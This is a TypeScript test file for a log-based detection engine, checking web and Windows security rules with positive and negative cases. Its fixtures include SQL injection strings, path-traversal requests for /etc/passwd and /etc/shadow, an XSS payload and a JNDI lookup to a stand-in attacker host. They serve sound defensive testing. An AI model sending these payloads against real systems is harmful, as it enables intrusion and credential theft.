/** Built-in web and Windows rules, positive and negative. Web lines go through the normalizer; Windows events are shaped as it produces them. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fire, lines, win } from './helpers.js';

const access = (ip: string, path: string, status: number, sec = 0, ua = 'python-requests/2.31') =>
  `${ip} - - [21/Nov/2026:10:${String(Math.floor(sec / 60)).padStart(2, '0')}:${String(sec % 60).padStart(2, '0')} +0000] "GET ${path} HTTP/1.1" ${status} 153 "-" "${ua}"`;

test('web-auth-failures-burst: 10 401/403 for one client within a minute fire; 200s and slow failures do not', async () => {
  const burst = Array.from({ length: 10 }, (_, i) => access('203.0.113.50', '/admin/login', i % 2 ? 401 : 403, i * 3));
  const s = await fire('web-auth-failures-burst', lines('web_access', burst));
  assert.deepEqual(s.map((x) => [x.group.src_ip, x.count]), [['203.0.113.50', 10]]);
  assert.equal((await fire('web-auth-failures-burst', lines('web_access', Array.from({ length: 10 }, (_, i) => access('203.0.113.50', '/', 200, i))))).length, 0);
  assert.equal((await fire('web-auth-failures-burst', lines('web_access', Array.from({ length: 10 }, (_, i) => access('203.0.113.50', '/x', 401, i * 10))))).length, 0);
});

test('web-scanner-paths: two different scanner paths from one client fire; one, or ordinary paths, do not', async () => {
  const s = await fire('web-scanner-paths', lines('web_access', [access('203.0.113.50', '/wp-login.php', 404, 2), access('203.0.113.50', '/.git/config', 404, 4)]));
  assert.equal(s.length, 1);
  assert.equal(s[0]!.group.src_ip, '203.0.113.50');
  assert.equal((await fire('web-scanner-paths', lines('web_access', [access('203.0.113.50', '/.env', 403, 2), access('203.0.113.50', '/.env', 403, 3)]))).length, 0);
  assert.equal((await fire('web-scanner-paths', lines('web_access', [access('198.51.100.20', '/blog/environment', 200), access('198.51.100.20', '/git-guide', 200, 1)]))).length, 0);
});

test('web-injection-traversal: SQLi, traversal, XSS, JNDI fire (URL-encoded too); clean paths do not', async () => {
  const attacks: Array<[string, string]> = [
    ['/api/items?id=1%27%20OR%201=1--', 'sql_injection'],
    ['/search?q=1+union+select+password+from+users', 'sql_injection'],
    ['/static/..%2f..%2f..%2fetc/passwd', 'path_traversal'],
    ['/download?file=../../../../etc/shadow', 'path_traversal'],
    ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss'],
    ['/?x=${jndi:ldap://evil.example/a}', 'jndi'],
  ];
  for (const [i, [path, category]] of attacks.entries()) {
    const s = await fire('web-injection-traversal', lines('web_access', [access(`192.0.2.${i + 1}`, path, 400)]));
    assert.equal(s.length, 1, path);
    assert.deepEqual((s[0]!.fields as { category: string[] }).category, [category], path);
  }
  const clean = ['/', '/api/items?id=42', '/blog/2026/11/or-else', '/search?q=union+station', '/docs/a-b-c', '/list?a=1&&b=2', "/blog/o'reilly-books"];
  assert.equal((await fire('web-injection-traversal', lines('web_access', clean.map((p, i) => access('198.51.100.20', p, 200, i))))).length, 0);
});

test('web-5xx-burst: 20 server errors on one host within a minute fire; 19 do not', async () => {
  const errs = (n: number) => Array.from({ length: n }, (_, i) => access(`198.51.100.${i}`, '/api', 502, i * 2));
  assert.equal((await fire('web-5xx-burst', lines('web_access', errs(20)))).length, 1);
  assert.equal((await fire('web-5xx-burst', lines('web_access', errs(19)))).length, 0);
});

const failed = (t: number, user: string, ip: string) =>
  win(t, 4625, 'Security', { TargetUserName: user, TargetDomainName: 'CORP', IpAddress: ip, LogonType: 3, WorkstationName: 'KALI' }, { user, src_ip: ip, audit: 'failure', logon_type: 3 });

test('win-failed-logon-burst-ip: 10 failed logons from one address fire; local failures without an address do not', async () => {
  const ev = Array.from({ length: 10 }, (_, i) => failed(i, `user${i % 3}`, '203.0.113.66'));
  const s = await fire('win-failed-logon-burst-ip', ev);
  assert.deepEqual(s.map((x) => [x.group.src_ip, x.count]), [['203.0.113.66', 10]]);
  const local = Array.from({ length: 10 }, (_, i) => win(i, 4625, 'Security', { TargetUserName: 'bob', IpAddress: '-' }, { user: 'bob' }));
  assert.equal((await fire('win-failed-logon-burst-ip', local)).length, 0);
});

test('win-failed-logon-burst-account: 10 failures for one account from several addresses fire; spread accounts do not', async () => {
  const ev = Array.from({ length: 10 }, (_, i) => failed(i * 10, 'administrator', `203.0.113.${i}`));
  const s = await fire('win-failed-logon-burst-account', ev);
  assert.deepEqual(s.map((x) => x.group.account), ['CORP\\administrator']);
  assert.equal((await fire('win-failed-logon-burst-account', Array.from({ length: 10 }, (_, i) => failed(i, `u${i}`, '203.0.113.1')))).length, 0);
});

test('single-event Windows rules fire on their event and not on neighbours', async () => {
  const cases: Array<[string, ReturnType<typeof win>, ReturnType<typeof win>]> = [
    ['win-account-lockout', win(0, 4740, 'Security', { TargetUserName: 'alice', TargetDomainName: 'WS01' }), win(0, 4767, 'Security', { TargetUserName: 'alice' })],
    ['win-audit-log-cleared', win(0, 1102, 'Security', { SubjectUserName: 'mallory' }), win(0, 1102, 'Application', { SubjectUserName: 'x' })],
    ['win-audit-log-cleared', win(0, 104, 'System', { SubjectUserName: 'mallory', Channel: 'Application' }), win(0, 105, 'System', {})],
    ['win-user-created', win(0, 4720, 'Security', { TargetUserName: 'svc-backup2', SubjectUserName: 'mallory' }), win(0, 4722, 'Security', { TargetUserName: 'svc-backup2' })],
    ['win-privileged-group-add', win(0, 4732, 'Security', { TargetUserName: 'Administrators', TargetSid: 'S-1-5-32-544', MemberSid: 'S-1-5-21-1-2-3-1601', SubjectUserName: 'mallory' }), win(0, 4732, 'Security', { TargetUserName: 'Print Spoolers', TargetSid: 'S-1-5-21-1-2-3-3001', MemberSid: 'S-1' })],
    ['win-privileged-group-add', win(0, 4728, 'Security', { TargetUserName: 'Domain Admins', TargetSid: 'S-1-5-21-1-2-3-512', MemberName: 'CN=eve' }), win(0, 4729, 'Security', { TargetUserName: 'Domain Admins', TargetSid: 'S-1-5-21-1-2-3-512' })],
    ['win-privileged-group-add', win(0, 4756, 'Security', { TargetUserName: 'Enterprise Admins', TargetSid: 'S-1-5-21-1-2-3-519', MemberName: 'CN=eve' }), win(0, 4756, 'Security', { TargetUserName: 'Staff', TargetSid: 'S-1-5-21-1-2-3-4000', MemberName: 'CN=eve' })],
    ['win-service-installed', win(0, 7045, 'System', { ServiceName: 'updsvc', ImagePath: 'C:\\Users\\Public\\updsvc.exe' }), win(0, 7036, 'System', { param1: 'updsvc' })],
    ['win-service-installed', win(0, 4697, 'Security', { ServiceName: 'backupagent', ServiceFileName: 'C:\\ProgramData\\bk\\agent.exe' }), win(0, 4697, 'System', { ServiceName: 'x' })],
    // PsExec's service is win-remote-exec-service's (one install, one alert)
    ['win-remote-exec-service', win(0, 4697, 'Security', { ServiceName: 'PSEXESVC', ServiceFileName: '%SystemRoot%\\PSEXESVC.exe' }), win(0, 4697, 'Security', { ServiceName: 'backupagent', ServiceFileName: 'C:\\ProgramData\\bk\\agent.exe' })],
    ['win-remote-exec-service', win(0, 7045, 'System', { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }), win(0, 7045, 'System', { ServiceName: 'updsvc', ImagePath: 'C:\\Users\\Public\\updsvc.exe' })],
    ['win-scheduled-task-created', win(0, 4698, 'Security', { TaskName: '\\Updater', SubjectUserName: 'mallory' }), win(0, 4699, 'Security', { TaskName: '\\Updater' })],
    ['win-defender-malware', win(0, 1116, 'Microsoft-Windows-Windows Defender/Operational', { 'Threat Name': 'Trojan:Win32/Wacatac', Path: 'file:_C:\\tmp\\a.exe' }), win(0, 1116, 'Application', { 'Threat Name': 'x' })],
    ['win-defender-malware', win(0, 1117, 'Microsoft-Windows-Windows Defender/Operational', { 'Threat Name': 'Trojan:Win32/Wacatac', 'Action Name': 'Quarantine' }), win(0, 1150, 'Microsoft-Windows-Windows Defender/Operational', {})],
  ];
  for (const [id, positive, negative] of cases) {
    assert.equal((await fire(id, [positive])).length, 1, `${id} on ${positive.fields.event_id}`);
    assert.equal((await fire(id, [negative])).length, 0, `${id} must not fire on ${negative.fields.event_id} ${negative.source.channel}`);
  }
  const svc = await fire('win-service-installed', [cases[7]![1]]);
  assert.match(svc[0]!.summary, /user-writable/);
});

test('win-app-crash-burst: 5 crashes of one application within 10 minutes fire; 4 do not', async () => {
  const crash = (t: number, app = 'backup.exe') => win(t, 1000, 'Application', { AppName: app, ModuleName: 'ntdll.dll', ExceptionCode: 'c0000005' });
  assert.deepEqual((await fire('win-app-crash-burst', [0, 60, 120, 180, 240].map((t) => crash(t)))).map((s) => s.group.app), ['backup.exe']);
  assert.equal((await fire('win-app-crash-burst', [0, 60, 120, 180].map((t) => crash(t)))).length, 0);
  assert.equal((await fire('win-app-crash-burst', [0, 60, 120, 180, 240].map((t, i) => crash(t, `app${i}.exe`)))).length, 0);
});

test('win-service-crash-loop: 3 unexpected terminations (7031/7034) of one service within an hour fire; 2 do not', async () => {
  const term = (t: number, id = 7031) => win(t, id, 'System', { param1: 'Print Spooler', param2: '1' });
  assert.equal((await fire('win-service-crash-loop', [term(0), term(600, 7034), term(1200)])).length, 1);
  assert.equal((await fire('win-service-crash-loop', [term(0), term(600)])).length, 0);
});
